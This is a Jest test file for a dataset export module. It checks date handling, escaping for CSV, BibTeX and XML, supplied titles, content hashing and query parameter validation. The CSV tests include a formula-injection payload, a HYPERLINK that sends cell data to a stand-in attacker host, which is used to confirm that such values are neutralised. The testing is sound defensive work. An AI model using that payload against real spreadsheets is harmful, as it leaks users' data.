/** The exports' pure parts: dates as spans and typed literals, quoting (and CSV's formula neutralising), escaping, supplied titles, the content hash and the parameter checks. */
import { Writable } from 'node:stream';
import { buildSchema } from 'graphql';
import { loadTypeDefs } from '../../src/app/schema';
import { InvalidArgumentError } from '../../src/core/errors';
import { bibKey, latexText } from '../../src/features/export/formats/bibtex';
import { parse as parseCsv } from 'csv-parse/sync';
import { csvRecord, safeCellText } from '../../src/features/export/formats/csv';
import { cslItem } from '../../src/features/export/formats/csl-json';
import { suppliedTitle } from '../../src/core/model/supplied-title';
import { firstDay, lastDay } from '../../src/features/export/formats/gexf';
import { dateLiteral } from '../../src/features/export/formats/jsonld';
import { dateParts, sourceDate } from '../../src/features/export/formats/source-dates';
import { xmlComment, xmlText } from '../../src/features/export/formats/xml';
import { changeSelection, graphSelection } from '../../src/features/export/parameters';
import { ExportDeadlineError, ResponseSink } from '../../src/features/export/sink';
import { canonicalJson } from '../../src/core/model/canonical-json';
import { ContentSum, versionLabel } from '../../src/features/export/version';

describe('dates keep their precision', () => {
  test.each([
    ['2016', '2016-01-01', '2016-12-31'],
    ['2016-02', '2016-02-01', '2016-02-29'],
    ['2015-02', '2015-02-01', '2015-02-28'],
    ['2021-02-24', '2021-02-24', '2021-02-24'],
  ])('GEXF spans %s from %s to %s', (iso, first, last) => {
    expect([firstDay(iso), lastDay(iso)]).toEqual([first, last]);
  });

  test('JSON-LD types a date by its precision', () => {
    expect(dateLiteral('2016')).toEqual({ '@value': '2016', '@type': 'xsd:gYear' });
    expect(dateLiteral('2016-05')).toEqual({ '@value': '2016-05', '@type': 'xsd:gYearMonth' });
    expect(dateLiteral('2016-05-03')).toEqual({ '@value': '2016-05-03', '@type': 'xsd:date' });
    expect(dateLiteral('last year')).toBeUndefined();
  });

  test('CSL date-parts: as many parts as the date has; a date-time gives its day', () => {
    expect(dateParts(sourceDate('2021')!)).toEqual([[2021]]);
    expect(dateParts(sourceDate('2021-02')!)).toEqual([[2021, 2]]);
    expect(dateParts(sourceDate('2021-02-24T16:58:00+04:00')!)).toEqual([[2021, 2, 24]]);
    expect(sourceDate(null)).toBeNull();
  });
});

describe('quoting and escaping', () => {
  test('CSV quotes every field (RFC 4180 quoting: quotes doubled), ends the record with CRLF', () => {
    expect(csvRecord(['plain', 'a,b', 'say "hi"', 'two\nlines', null, 3, false])).toBe(
      '"plain","a,b","say ""hi""","two\nlines","","3","false"\r\n',
    );
  });

  test('BibTeX escapes LaTeX specials and keeps letters of any script', () => {
    expect(latexText('50% & {more} #1_a ~ \\ ə Джейхун')).toBe(
      '50\\% \\& \\{more\\} \\#1\\_a \\textasciitilde{} \\textbackslash{} ə Джейхун',
    );
    expect(bibKey('source:asan 2021/02,x')).toBe('source:asan-2021/02-x');
  });

  test('XML escapes markup and drops characters XML cannot carry', () => {
    expect(xmlText('a<b & "c" \u0001\u0008d')).toBe('a&lt;b &amp; &quot;c&quot; d');
    expect(xmlComment('x -- y')).toBe('<!-- x - - y -->');
  });
});

describe('CSV against formula injection (OWASP)', () => {
  const formula = 'HYPERLINK("https://evil.example/?leak="&A1,"Click")';

  test.each([
    ['=', 'equals'],
    ['+', 'plus'],
    ['-', 'minus'],
    ['@', 'at'],
    ['\t', 'tab'],
    ['\r', 'carriage return'],
  ])('a text starting with %j (%s) gets a leading single quote, and a CSV parser reads it back as that text', (lead) => {
    const record = csvRecord(['agency:x', `${lead}${formula}`, `${lead}1+1`]);
    expect(parseCsv(record) as string[][]).toEqual([['agency:x', `'${lead}${formula}`, `'${lead}1+1`]]);
    expect(safeCellText(`${lead}x`)).toBe(`'${lead}x`);
  });

  test('only the first character counts; numbers stay numbers; a separator inside a value never starts a cell', () => {
    expect(safeCellText('MoU =signed')).toBe('MoU =signed');
    expect(safeCellText(-3)).toBe('-3');
    expect(safeCellText("'quoted")).toBe("'quoted");
    expect(parseCsv(csvRecord(['a,=1+2;@SUM(A1)', '\n=2'])) as string[][]).toEqual([['a,=1+2;@SUM(A1)', '\n=2']]);
  });
});

describe('supplied titles', () => {
  test('built from the publisher and the date at its precision, in square brackets', () => {
    expect(suppliedTitle('AzerNews', '2024-04-19')).toBe('[AzerNews, 19 April 2024]');
    expect(suppliedTitle('Metbuat.az', '2019-11')).toBe('[Metbuat.az, November 2019]');
    expect(suppliedTitle('Trend', '2019')).toBe('[Trend, 2019]');
    expect(suppliedTitle('Trend', '2021-02-24T16:58:00+04:00')).toBe('[Trend, 24 February 2021]');
    expect(suppliedTitle('AzerNews (by Trend)', null)).toBe('[AzerNews (by Trend), undated]');
  });

  test("CSL-JSON keeps the bracketed title and its note says it is supplied; a source's own title is not marked", () => {
    const source = {
      id: 'source:x',
      title: '[AzerNews, 19 April 2024]',
      titleSupplied: true,
      publisher: 'AzerNews',
      published: '2024-04-19',
      retrieved: null,
      language: 'en',
      url: null,
      text: null,
      translations: [],
    };
    expect(cslItem(source, 'v1')).toMatchObject({
      title: '[AzerNews, 19 April 2024]',
      note: 'title supplied (headline not known); coopgraph dataset version v1',
    });
    expect(cslItem({ ...source, title: 'Ethiopia opens MESOB', titleSupplied: false }, 'v1').note).toBe('coopgraph dataset version v1');
  });
});

describe('the content hash', () => {
  const items = [{ id: 'a', name: 'A', aliases: ['x'] }, { id: 'b', name: 'B' }, ['PARTY_TO', 'a', 'b', { sourceIds: ['s'] }]];
  const digest = (list: unknown[]) => {
    const sum = new ContentSum();
    list.forEach((item, i) => sum.add(i === 2 ? 'relation' : 'entity', item));
    return sum.digest();
  };

  test('canonical JSON sorts keys at every level', () => {
    expect(canonicalJson({ b: 1, a: { d: [2, { f: 1, e: 2 }], c: null } })).toBe('{"a":{"c":null,"d":[2,{"e":2,"f":1}]},"b":1}');
  });

  test('the order items arrive in does not matter; any change of content does', () => {
    const sum = new ContentSum();
    for (const i of [2, 0, 1]) sum.add(i === 2 ? 'relation' : 'entity', items[i]);
    expect(sum.digest()).toBe(digest(items));
    expect(digest([items[0], { id: 'b', name: 'B.' }, items[2]])).not.toBe(digest(items));
    expect(digest([{ aliases: ['x'], name: 'A', id: 'a' }, items[1], items[2]])).toBe(digest(items));
    expect(digest(items)).toMatch(/^[0-9a-f]{16}$/);
  });

  test('a repeated item counts twice', () => {
    const once = new ContentSum();
    once.add('entity', items[0]);
    const twice = new ContentSum();
    twice.add('entity', items[0]);
    twice.add('entity', items[0]);
    expect(twice.digest()).not.toBe(once.digest());
  });

  test('the label joins hash and last change', () => {
    expect(versionLabel({ hash: '0123456789abcdef', lastChange: '2026-11-26T10:00:00.000Z' })).toBe(
      '0123456789abcdef@2026-11-26T10:00:00.000Z',
    );
    expect(versionLabel({ hash: '0123456789abcdef', lastChange: null })).toBe('0123456789abcdef');
  });
});

describe('parameters', () => {
  const schema = buildSchema(loadTypeDefs());
  const graph = (query: string) => graphSelection(schema, new URLSearchParams(query));
  const refused = (run: () => unknown): InvalidArgumentError => {
    try {
      run();
    } catch (error) {
      if (error instanceof InvalidArgumentError) return error;
      throw error;
    }
    throw new Error('not refused');
  };

  test('separate fields and the JSON filter normalise alike', () => {
    const separate = graph('type=Agency,MEMORANDUM&country=afg&kind=MOU,GOVERNMENT_AGENCY&from=2016');
    expect(separate.types).toEqual(['Agency', 'Memorandum']);
    expect(separate.filter).toMatchObject({ country: 'AF', kind: ['MOU', 'GOVERNMENT_AGENCY'], from: '2016' });
    const json = graph(
      `type=Agency,Memorandum&filter=${encodeURIComponent('{"country":"AFG","kind":["MOU","GOVERNMENT_AGENCY"],"from":"2016"}')}`,
    );
    expect(json.filter).toEqual(separate.filter);
    expect(graph('').language).toBe('en');
    expect(graph('lang=RU').language).toBe('ru');
  });

  test.each([
    ['page=2', 'page'],
    ['type=Agency&type=Person', 'type'],
    ['type=', 'type'],
    ['kind=MOU&type=Person', 'kind[0]'],
    ['to=2016-02-30', 'to'],
    ['asOf=yesterday', 'asOf'],
    ['filter=[1]', 'filter'],
    ['filter={"kind":"MOU","from":2016}', 'filter.from'],
    ['filter={"related":[{"types":["PARTY_TO"],"where":{"country":"Narnia"}}]}', 'filter.related[0].where.country'],
  ])('%s is refused naming %s', (query, argument) => {
    expect(refused(() => graph(query)).argument).toBe(argument);
  });

  test("the audit trail export takes Query.changes' arguments only", () => {
    expect(changeSelection(new URLSearchParams('since=2026-11&by=apikey:x'))).toEqual({ entity: null, by: 'apikey:x', since: '2026-11' });
    expect(refused(() => changeSelection(new URLSearchParams('country=AF'))).argument).toBe('country');
    expect(refused(() => changeSelection(new URLSearchParams('since=last week'))).argument).toBe('since');
  });
});

describe('the response sink', () => {
  /** A response whose client never reads: every write reports a full buffer, 'drain' never comes. */
  const stalled = () => new Writable({ highWaterMark: 1, write: () => undefined });

  test("a client that stops reading holds the export until the export's deadline, then it fails", async () => {
    const sink = new ResponseSink(stalled(), new AbortController().signal, 50);
    const started = Date.now();
    await expect(sink.write('x'.repeat(70 * 1024))).rejects.toThrow(ExportDeadlineError);
    expect(Date.now() - started).toBeGreaterThanOrEqual(45);
  });

  test('a client that leaves ends the wait at once, with the reason it left', async () => {
    const leaving = new AbortController();
    const sink = new ResponseSink(stalled(), leaving.signal, 60_000);
    const writing = sink.write('x'.repeat(70 * 1024));
    leaving.abort(new Error('client left'));
    await expect(writing).rejects.toThrow('client left');
  });
});
